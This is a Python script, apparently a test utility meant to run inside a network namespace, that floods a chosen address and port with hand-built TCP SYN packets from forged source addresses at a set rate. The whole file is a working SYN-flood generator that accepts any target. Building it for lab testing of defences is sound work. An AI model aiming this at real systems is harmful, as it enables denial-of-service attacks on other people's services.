"""Sends SYNs from made-up addresses: `flood.py ADDRESS PORT SECONDS [RATE [SOURCE]]`, run inside a namespace.

The sources are all of 198.18.0.0/15 (RFC 2544) in no order, each SYN from another address and port; or with
SOURCE its ports alone. RATE is SYNs a second at most, 0 for as many as go. Needs a raw socket. Writes how
many were sent; a packet that the kernel has no room for is not.
"""

import random
import socket
import struct
import sys
import time

_BATCH = 64


def checksum(data: bytes) -> int:
    """RFC 1071's, by arithmetic modulo 65535."""
    return 0xFFFF - int.from_bytes(data) % 0xFFFF


def syn(source: int, target: bytes, port: int, own_port: int, number: int) -> bytes:
    """A SYN in an IPv4 packet; the kernel fills in the length and the header's sum."""
    own = source.to_bytes(4, "big")
    head = struct.pack("!HHIIBBH", own_port, port, number, 0, 0x50, 0x02, 64240)
    pseudo = own + target + b"\0\x06\0\x14" + head + bytes(4)
    segment = head + checksum(pseudo).to_bytes(2, "big") + bytes(2)
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + own + target + segment


def main() -> None:
    """Flood until the time is over."""
    address, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
    source = int.from_bytes(socket.inet_aton(sys.argv[5]), "big") if len(sys.argv) > 5 else 0
    target, draw = socket.inet_aton(address), random.Random(1).getrandbits
    line = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begun = time.monotonic()
    sent, asked = 0, 0
    while (passed := time.monotonic() - begun) < seconds:
        if rate and asked > passed * rate:
            time.sleep(0.001)
            continue
        for _ in range(_BATCH):
            asked += 1
            own = source or 0xC6120000 | draw(17)
            own_port = 1024 + (asked % 64000 if source else draw(15))
            try:
                line.sendto(syn(own, target, port, own_port, draw(32)), (address, 0))
                sent += 1
            except OSError:  # no room at the moment
                continue
    print(sent)


if __name__ == "__main__":
    main()
